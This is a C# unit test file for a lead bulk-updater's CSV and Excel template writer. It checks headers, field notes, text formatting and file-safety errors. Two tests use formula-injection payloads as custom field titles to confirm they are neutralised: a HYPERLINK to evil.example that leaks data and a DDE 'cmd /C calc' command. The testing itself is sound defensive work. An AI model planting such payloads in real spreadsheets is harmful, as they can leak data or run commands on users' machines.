using System.Text;
using ClosedXML.Excel;
using LinerBulkUpdater.Input;
using LinerBulkUpdater.Leads;
using LinerBulkUpdater.Templates;

namespace LinerBulkUpdater.Tests.Templates;

public sealed class InputTemplateTests : IDisposable
{
    private const string ExpectedHeader =
        "lead_id,client_name,client_phone,quiz_log,campaign_id,external_id,status,call_timestamp,priority,utc_offset,telegramUserName,telegramPhone,vkId,instagramLogin,externalIdBitrix24,externalIdAmo,externalIdMacro,externalIdDomoplaner";

    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void Csv_template_is_the_header_alone_in_utf8_with_a_bom()
    {
        var path = Path.Combine(_folder.Path, "leads.csv");

        InputTemplate.Write(path);

        Assert.Equal([.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(ExpectedHeader + "\r\n")], File.ReadAllBytes(path));
        using var source = CsvRowSource.Open(path, new CsvInputOptions());
        Assert.Equal(ExpectedHeader.Split(','), source.Header);
        Assert.Equal(0, source.DataRowCount);
    }

    [Fact]
    public void Xlsx_template_has_a_leads_sheet_with_the_header_notes_and_text_columns()
    {
        var path = Path.Combine(_folder.Path, "leads.xlsx");

        InputTemplate.Write(path);

        using var workbook = new XLWorkbook(path);
        Assert.Equal(["Leads", "Fields"], workbook.Worksheets.Select(sheet => sheet.Name));
        var leads = workbook.Worksheet(1);
        Assert.Equal(ExpectedHeader.Split(','), leads.Row(1).CellsUsed().Select(cell => cell.GetString()));
        Assert.Equal(1, leads.LastRowUsed().RowNumber());
        Assert.True(leads.Cell("A1").Style.Font.Bold);
        Assert.Equal(1, leads.SheetView.SplitRow);

        Assert.Equal("required: the Liner lead id, an integer > 0", leads.Cell("A1").Comment.Text);
        Assert.Equal(LeadFields.ClientPhone.Rule, leads.Cell("C1").Comment.Text);
        Assert.All(leads.Row(1).CellsUsed(), cell => Assert.True(cell.HasComment));

        // Text format where Excel would otherwise eat leading zeros or turn a phone into 7.9E+10; numbers stay General.
        Assert.Equal("@", leads.Column("C").Style.NumberFormat.Format);
        Assert.Equal("@", leads.Column("E").Style.NumberFormat.Format);
        Assert.Equal("@", leads.Cell("E2").Style.NumberFormat.Format);
        Assert.NotEqual("@", leads.Column("G").Style.NumberFormat.Format);
        Assert.All(Enumerable.Range(1, 14), column => Assert.InRange(leads.Column(column).Width, 12, 40));
    }

    [Fact]
    public void Xlsx_template_documents_every_field_with_its_type_rule_and_example()
    {
        var path = Path.Combine(_folder.Path, "leads.xlsx");

        InputTemplate.Write(path);

        using var workbook = new XLWorkbook(path);
        var fields = workbook.Worksheet("Fields");
        Assert.Equal(["field", "JSON type", "rule", "example"], fields.Row(1).CellsUsed().Select(cell => cell.GetString()));
        var rows = Enumerable.Range(2, 18).Select(row => fields.Row(row)).ToDictionary(row => row.Cell(1).GetString());
        Assert.Equal(ExpectedHeader.Split(','), rows.Keys);
        Assert.Equal(["string", LeadFields.CampaignId.Rule, "007"], Cells(rows["campaign_id"]));
        Assert.Equal(["int", LeadFields.VkId.Rule, "123456789"], Cells(rows["vkId"]));
        Assert.Equal(["int", "required: the Liner lead id, an integer > 0", "12345"], Cells(rows["lead_id"]));
        Assert.Equal(["string", "text: the lead's id in amoCRM", "31877205"], Cells(rows["externalIdAmo"]));
        Assert.All(rows.Values, row => Assert.NotEqual("", row.Cell(4).GetString()));

        var notes = fields.Column(1).CellsUsed().Select(cell => cell.GetString()).ToList();
        Assert.Contains(notes, note => note.StartsWith("A blank cell leaves the field alone", StringComparison.Ordinal));
        Assert.Contains(notes, note => note.StartsWith("#clear", StringComparison.Ordinal));
        Assert.Contains(notes, note => note.StartsWith("call_timestamp takes Unix seconds", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("leads.csv")]
    [InlineData("leads.xlsx")]
    public void An_existing_file_is_never_written_over(string name)
    {
        var path = _folder.Write(name, Encoding.UTF8.GetBytes("precious"));

        var error = Assert.Throws<UsageException>(() => InputTemplate.Write(path));

        Assert.Equal($"{path} already exists; the template is never written over a file: choose another name or remove it first", error.Message);
        Assert.Equal("precious", File.ReadAllText(path));
    }

    [Theory]
    [InlineData("leads.xls", ".xls")]
    [InlineData("leads.txt", ".txt")]
    [InlineData("leads", "")]
    public void Other_extensions_are_refused_naming_the_path(string name, string extension)
    {
        var path = Path.Combine(_folder.Path, name);

        var error = Assert.Throws<UsageException>(() => InputTemplate.Write(path));

        Assert.Equal($"{path}: a template is written as .xlsx or .csv, not '{extension}'", error.Message);
        Assert.False(File.Exists(path));
    }

    [Fact]
    public void A_missing_folder_is_a_one_line_usage_error()
    {
        var path = Path.Combine(_folder.Path, "no-such-folder", "leads.csv");

        var error = Assert.Throws<UsageException>(() => InputTemplate.Write(path));

        Assert.StartsWith($"{path}: cannot create the file: ", error.Message);
        Assert.DoesNotContain('\n', error.Message);
    }

    /// <summary>
    /// Liner's titles are not ours: a CSV header cell that starts with = + - @ is a formula to Excel and LibreOffice (a
    /// quoted one too). Each such title gets a leading ', and the filled-in file maps every column back to its field.
    /// </summary>
    [Fact]
    public void A_csv_template_of_custom_fields_titled_like_formulas_runs_none_and_maps_back()
    {
        var custom = new CustomFields(
        [
            new(101, "=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", CustomFieldType.String, "leads", []),
            new(102, "-2+3", CustomFieldType.String, "leads", []),
            new(103, "+7 телефон", CustomFieldType.String, "leads", []),
            new(104, "@канал", CustomFieldType.String, "leads", []),
            new(105, "\t=cmd|' /C calc'!A0", CustomFieldType.String, "leads", []),
            new(106, "=x", CustomFieldType.String, "leads", []),
            new(107, "'=x", CustomFieldType.String, "leads", []),
            new(108, "Тариф", CustomFieldType.String, "leads", []),
        ]);
        var path = Path.Combine(_folder.Path, "leads.csv");

        InputTemplate.Write(path, custom: custom);

        using var source = CsvRowSource.Open(path, new CsvInputOptions());
        Assert.Equal(
            [.. ExpectedHeader.Split(','), "'=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", "'-2+3", "'+7 телефон", "'@канал", "'=cmd|' /C calc'!A0", "custom:106", "''=x", "Тариф"],
            source.Header);
        Assert.All(source.Header, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
        var map = ColumnMap.Build(path, source.Header, new Dictionary<string, string>(), [], custom);
        Assert.Equal(
            [101L, 102, 103, 104, 105, 106, 107, 108],
            map.Fields.Skip(LeadFields.All.Count).Select(column => ((CustomField)column.Field).Id));
    }

    /// <summary>A workbook's cells are typed: a title such as <c>=HYPERLINK(…)</c> is a text cell there, shown as it is.</summary>
    [Fact]
    public void An_xlsx_template_keeps_custom_titles_and_option_titles_like_formulas_as_text()
    {
        var custom = new CustomFields(
        [
            new(101, "=HYPERLINK(\"http://evil.example/\",\"Click\")", CustomFieldType.Select, "leads", [new("a", "=1+1", 1), new("b", "-2+3", 2)]),
            new(102, "-2+3", CustomFieldType.String, "leads", []),
            new(103, "007", CustomFieldType.String, "leads", []),
        ]);
        var path = Path.Combine(_folder.Path, "leads.xlsx");

        InputTemplate.Write(path, custom: custom);

        using var workbook = new XLWorkbook(path);
        Assert.Equal(
            ["=HYPERLINK(\"http://evil.example/\",\"Click\")", "-2+3", "007"],
            workbook.Worksheet("Leads").Row(1).CellsUsed().Skip(18).Select(cell => cell.GetString()));
        Assert.Equal(
            "custom field 101, '=HYPERLINK(\"http://evil.example/\",\"Click\")' (select): one option, by title or code: =1+1 (a), -2+3 (b)",
            workbook.Worksheet("Leads").Cell(1, 19).Comment.Text);
        Assert.All(workbook.Worksheets.SelectMany(sheet => sheet.CellsUsed()), cell => Assert.True(!cell.HasFormula && cell.DataType == XLDataType.Text, cell.Address.ToString()));
    }

    private static string[] Cells(IXLRow row) => [row.Cell(2).GetString(), row.Cell(3).GetString(), row.Cell(4).GetString()];
}
